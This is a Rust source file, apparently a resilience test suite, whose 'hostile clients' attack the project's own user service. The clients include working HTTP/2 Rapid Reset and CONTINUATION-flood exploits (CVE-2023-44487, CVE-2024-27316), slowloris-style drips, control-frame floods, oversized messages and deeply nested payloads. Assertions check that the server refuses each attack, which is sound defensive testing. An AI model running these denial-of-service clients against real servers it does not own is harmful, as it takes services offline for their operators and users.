//! The hostile clients.

use std::pin::Pin;
use std::time::{Duration, Instant};

use h2::Reason;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use user_service::options::MESSAGE_LIMIT;

use super::wire::{self, CONTINUATION, HEADERS, PING, SETTINGS, begun, call, frame, http2, one_text, post};
use super::{Scale, Target};

type Sent = Pin<Box<dyn Future<Output = String> + Send>>;

/// A kind of hostile client: says what it has sent.
pub struct Attack {
    pub name: &'static str,
    pub does: fn(Target, Scale) -> Sent,
}

pub const ALL: &[Attack] = &[
    Attack { name: "rapid reset", does: |target, scale| Box::pin(rapid_reset(target, scale)) },
    Attack { name: "header flood", does: |target, scale| Box::pin(header_flood(target, scale)) },
    Attack { name: "large header lists", does: |target, scale| Box::pin(large_headers(target, scale)) },
    Attack { name: "PING and SETTINGS flood", does: |target, scale| Box::pin(control_flood(target, scale)) },
    Attack { name: "slow bytes", does: |target, scale| Box::pin(slow_bytes(target, scale)) },
    Attack { name: "idle connections", does: |target, scale| Box::pin(idle(target, scale)) },
    Attack { name: "nobody reads", does: |target, scale| Box::pin(nobody_reads(target, scale)) },
    Attack { name: "messages of 100 MB", does: |target, scale| Box::pin(too_large(target, scale)) },
    Attack { name: "messages of 50 MiB", does: |target, scale| Box::pin(as_large(target, scale)) },
    Attack { name: "JSON of 50 MiB", does: |target, scale| Box::pin(large_json(target, scale)) },
    Attack { name: "deep nesting", does: |target, scale| Box::pin(nested(target, scale)) },
];

/// Connections of those attacks that need only a few.
const FEW: usize = 8;

/// Does it on a few connections at a time until the time is up; the sum of what each did.
async fn again<F: Future<Output = usize> + Send + 'static>(
    scale: Scale,
    at_once: usize,
    does: impl Fn(Instant) -> F,
) -> (usize, usize) {
    let end = Instant::now() + scale.time;
    let (mut running, mut done, mut connections) = (JoinSet::new(), 0, 0);
    while Instant::now() < end {
        while running.len() < at_once {
            connections += 1;
            running.spawn(tokio::time::timeout(scale.time * 2, does(end)));
        }
        let left = end.saturating_duration_since(Instant::now());
        let Ok(Some(one)) = tokio::time::timeout(left, running.join_next()).await else { break };
        done += one.unwrap().unwrap_or_default();
    }
    while let Some(one) = running.join_next().await {
        done += one.unwrap().unwrap_or_default();
    }
    (done, connections)
}

/// CVE-2023-44487: a stream is begun and taken back at once.
async fn rapid_reset(target: Target, scale: Scale) -> String {
    let one = move |end| async move {
        let Some(send) = http2(target.grpc).await else { return 0 };
        let mut count = 0;
        while Instant::now() < end {
            let Ok(mut ready) = send.clone().ready().await else { break };
            let Ok((_, mut body)) = ready.send_request(call("GetUser"), false) else { break };
            body.send_reset(Reason::CANCEL);
            count += 1;
            if count % 64 == 0 {
                tokio::task::yield_now().await;
            }
        }
        count
    };
    let (count, connections) = again(scale, FEW, one).await;
    format!("{count} streams on {connections} connections")
}

/// One header, not indexed (RFC 7541, 6.2.2): its value has so many bytes, fewer than 127.
fn header(length: u8) -> Vec<u8> {
    [&[0, 1, b'a', length][..], &vec![b'x'; usize::from(length)]].concat()
}

/// CVE-2024-27316: headers that never end.
async fn header_flood(target: Target, scale: Scale) -> String {
    let one = move |end| async move {
        let Ok(mut socket) = begun(target.grpc).await else { return 0 };
        let many = header(100).repeat(150);
        let first = frame(HEADERS, 1, &header(1));
        let more = frame(CONTINUATION, 1, &many);
        let mut sent = 0;
        if socket.write_all(&first).await.is_err() {
            return 0;
        }
        while Instant::now() < end && socket.write_all(&more).await.is_ok() {
            sent += more.len();
        }
        sent
    };
    let (bytes, connections) = again(scale, FEW, one).await;
    format!("{} MB of headers on {connections} connections", bytes / 1_000_000)
}

/// Headers that do end, and are more than anybody needs.
async fn large_headers(target: Target, scale: Scale) -> String {
    let one = move |end| async move {
        let Some(send) = http2(target.grpc).await else { return 0 };
        let mut count = 0;
        while Instant::now() < end {
            let mut request = call("GetUser");
            for number in 0..60 {
                let name = format!("x-{number}").parse::<http::HeaderName>().unwrap();
                request.headers_mut().insert(name, "x".repeat(1000).parse().unwrap());
            }
            let Ok(mut ready) = send.clone().ready().await else { break };
            let Ok((response, _body)) = ready.send_request(request, true) else { break };
            let refused = response.await.map_or(true, |it| it.status() == 431);
            assert!(refused, "60 kB of headers are taken");
            count += 1;
        }
        count
    };
    let (count, connections) = again(scale, FEW, one).await;
    format!("{count} calls with 60 kB of headers on {connections} connections")
}

/// Frames that are to be answered, from clients who do not read.
async fn control_flood(target: Target, scale: Scale) -> String {
    let one = move |end: Instant| async move {
        let Ok(mut socket) = begun(target.grpc).await else { return 0 };
        let one = [frame(PING, 0, &[7; 8]), frame(SETTINGS, 0, &[])].concat();
        let many = one.repeat(1000);
        let mut sent = 0;
        loop {
            let left = end.saturating_duration_since(Instant::now());
            let written = tokio::time::timeout(left, socket.write_all(&many)).await;
            if !matches!(written, Ok(Ok(()))) {
                return sent;
            }
            sent += 2000;
        }
    };
    let (count, connections) = again(scale, FEW, one).await;
    format!("{count} frames on {connections} connections")
}

/// One byte at a time: of the preface, of headers over HTTP/2 and HTTP/1.1, of a message.
async fn slow_bytes(target: Target, scale: Scale) -> String {
    const PAUSE: Duration = Duration::from_millis(200);
    let end = Instant::now() + scale.time;
    let mut running = JoinSet::new();
    let each = scale.idle / 10;
    for _ in 0..each {
        running.spawn(async move {
            let mut socket = TcpStream::connect(target.grpc).await?;
            drip(&mut socket, wire::PREFACE, end, PAUSE * 2).await
        });
        running.spawn(async move {
            let mut socket = begun(target.grpc).await?;
            socket.write_all(&frame(HEADERS, 1, &[])).await?;
            drip(&mut socket, &frame(CONTINUATION, 1, &header(1)).repeat(100), end, PAUSE).await
        });
        running.spawn(async move {
            let mut socket = TcpStream::connect(target.rest).await?;
            drip(&mut socket, "GET /v1/users HTTP/1.1\r\nHost: any\r\nX: ".as_bytes(), end, PAUSE).await
        });
        running.spawn(async move {
            let mut socket = TcpStream::connect(target.rest).await?;
            socket
                .write_all(b"POST /v1/users HTTP/1.1\r\nHost: any\r\nContent-Length: 100000\r\n\r\n")
                .await?;
            drip(&mut socket, b"{\"name\": \"a very slow one", end, PAUSE).await
        });
        running.spawn(async move {
            let Some(send) = http2(target.grpc).await else { return Ok(()) };
            let Ok(mut ready) = send.ready().await else { return Ok(()) };
            let Ok((_response, mut body)) = ready.send_request(call("ImportUsers"), false) else {
                return Ok(());
            };
            while Instant::now() < end && body.send_data(bytes::Bytes::from_static(&[0]), false).is_ok() {
                tokio::time::sleep(PAUSE).await;
            }
            Ok(())
        });
    }
    // One that the server has closed is as good.
    while running.join_next().await.is_some() {}
    format!("5 × {each} connections, a byte each {} ms", PAUSE.as_millis())
}

async fn drip(socket: &mut TcpStream, bytes: &[u8], end: Instant, pause: Duration) -> std::io::Result<()> {
    for byte in bytes.iter().cycle() {
        if Instant::now() >= end {
            break;
        }
        socket.write_all(&[*byte]).await?;
        tokio::time::sleep(pause).await;
    }
    Ok(())
}

/// By then who has not begun is let go, which is after 10 s.
const LET_GO: Duration = Duration::from_secs(12);

/// Connections that say nothing, and such that begin and say no more.
async fn idle(target: Target, scale: Scale) -> String {
    let (mut silent, mut begun_ones) = (Vec::new(), Vec::new());
    for number in 0..scale.idle {
        if number % 2 == 0 {
            silent.push(TcpStream::connect(target.grpc).await.unwrap());
        } else {
            begun_ones.push(begun(target.grpc).await.unwrap());
        }
    }
    tokio::time::sleep(scale.time).await;
    // Whoever was let go reads to an end, behind the SETTINGS that every connection is greeted with.
    let mut open = 0;
    for socket in &mut silent {
        let mut greeting = Vec::new();
        let end = socket.read_to_end(&mut greeting);
        open += usize::from(tokio::time::timeout(Duration::from_millis(1), end).await.is_err());
    }
    let all = silent.len();
    assert!(open == 0 || scale.time < LET_GO, "{open} connections that say nothing are still open");
    let begun = begun_ones.len();
    format!("{all} silent connections, {open} of them open at the end; {begun} with a preface and no more")
}

/// Lists of every user, again and again, to clients whose windows are shut.
async fn nobody_reads(target: Target, scale: Scale) -> String {
    // SETTINGS_INITIAL_WINDOW_SIZE (4) of 0.
    let shut = frame(SETTINGS, 0, &[0, 4, 0, 0, 0, 0]);
    // The indexed headers of a POST over http (RFC 7541, A), and the others by their names.
    let text = |name: &str, value: &str| {
        let (name, value) = (name.as_bytes(), value.as_bytes());
        [&[0, u8::try_from(name.len()).unwrap()], name, &[u8::try_from(value.len()).unwrap()], value].concat()
    };
    let headers = [
        vec![0x83, 0x86],
        text(":path", "/user.UserService/StreamUsers"),
        text(":authority", "any"),
        text("content-type", "application/grpc"),
    ]
    .concat();
    let mut sockets = Vec::new();
    let connections = scale.idle / 20;
    for _ in 0..connections {
        let mut socket = TcpStream::connect(target.grpc).await.unwrap();
        let mut all = [wire::PREFACE, &shut].concat();
        for call in 0..100 {
            let stream = 2 * call + 1;
            let mut head = frame(HEADERS, stream, &headers);
            // END_HEADERS; and DATA with the empty message and END_STREAM.
            head[4] = 4;
            let mut body = frame(0, stream, &[0; 5]);
            body[4] = 1;
            all.extend(head.into_iter().chain(body));
        }
        socket.write_all(&all).await.unwrap();
        sockets.push(socket);
    }
    tokio::time::sleep(scale.time).await;
    format!("{} streams of every user on {connections} connections", 100 * connections)
}

/// Twice what is taken.
async fn too_large(target: Target, scale: Scale) -> String {
    let one = move |_| async move {
        let Some(send) = http2(target.grpc).await else { return 0 };
        let status = post(send, "CreateUser", one_text(100_000_000), 100_000_000).await;
        assert!(matches!(status.as_deref(), Some("8") | None), "{status:?}");
        1
    };
    let (count, _) = again(scale, scale.large, one).await;
    format!("{count} messages, {} at a time", scale.large)
}

/// As much as is taken of one, from many at once.
async fn as_large(target: Target, scale: Scale) -> String {
    let one = move |_| async move {
        let Some(send) = http2(target.grpc).await else { return 0 };
        let head = one_text(MESSAGE_LIMIT);
        let left = MESSAGE_LIMIT + 5 - head.len();
        match post(send, "CreateUser", head, left).await.as_deref() {
            // Read and judged: no name is so long.
            Some("3") => 1,
            // Others are read, or it took too long.
            Some("8" | "4") | None => 1_000_000,
            other => panic!("{other:?}"),
        }
    };
    let (count, _) = again(scale, scale.large, one).await;
    let (judged, refused) = (count % 1_000_000, count / 1_000_000);
    assert!(judged > 0, "none is read");
    format!(
        "{} messages, {} at a time: {judged} read and judged, {refused} refused",
        judged + refused,
        scale.large
    )
}

/// One request over HTTP/1.1 with this content, in pieces; the status of its answer.
async fn post_json(target: Target, path: &str, length: usize, head: &[u8], piece: &[u8]) -> Option<String> {
    let socket = TcpStream::connect(target.rest).await.ok()?;
    let (mut read, mut write) = socket.into_split();
    let line = format!("POST {path} HTTP/1.1\r\nHost: any\r\nContent-Type: application/json\r\n");
    let line = format!("{line}Content-Length: {length}\r\nConnection: close\r\n\r\n");
    let sending = async {
        write.write_all(line.as_bytes()).await?;
        write.write_all(head).await?;
        let mut left = length - head.len();
        while left > 0 {
            let size = piece.len().min(left);
            write.write_all(&piece[..size]).await?;
            left -= size;
        }
        Ok::<_, std::io::Error>(())
    };
    let answering = async {
        let mut answer = Vec::new();
        // Who refuses may close before all was sent: what it said first counts.
        let _ = read.read_to_end(&mut answer).await;
        Some(String::from_utf8_lossy(&answer).split(' ').nth(1)?.to_owned())
    };
    tokio::pin!(answering);
    tokio::select! {
        status = &mut answering => status,
        _ = sending => answering.await,
    }
}

async fn large_json(target: Target, scale: Scale) -> String {
    let one = move |_| async move {
        // A number in an array of numbers: whatever is made of it is larger than the text.
        let more = b",1".repeat(1000);
        let status = post_json(target, "/v1/users", MESSAGE_LIMIT, b"{\"name\": [1", &more).await;
        match status.as_deref() {
            Some("400") => 1,
            Some("429" | "504" | "413") | None => 1_000_000,
            other => panic!("{other:?}"),
        }
    };
    let (count, _) = again(scale, scale.large, one).await;
    let (judged, refused) = (count % 1_000_000, count / 1_000_000);
    format!(
        "{} requests, {} at a time: {judged} read and judged, {refused} refused",
        judged + refused,
        scale.large
    )
}

/// Groups in groups, which no field of the schema has, and arrays in arrays.
async fn nested(target: Target, scale: Scale) -> String {
    const DEPTH: usize = 1_000_000;
    let one = move |_| async move {
        for method in ["GetUser", "ImportUsers", "Chat"] {
            let Some(send) = http2(target.grpc).await else { return 0 };
            // Field 15, the beginning of a group.
            let head = [&[0][..], &u32::try_from(DEPTH).unwrap().to_be_bytes(), &vec![0x7b; DEPTH]].concat();
            let status = post(send, method, head, 0).await;
            assert!(matches!(status.as_deref(), Some("3" | "13")), "{method}: {status:?}");
        }
        for path in ["/v1/users", "/v1/chat"] {
            let status = post_json(target, path, DEPTH, b"{\"name\":", &[b'['; 1000]).await;
            assert_eq!(status.as_deref(), Some("400"), "{path}");
        }
        5
    };
    let (count, _) = again(scale, FEW, one).await;
    format!("{count} messages and documents, a million deep")
}
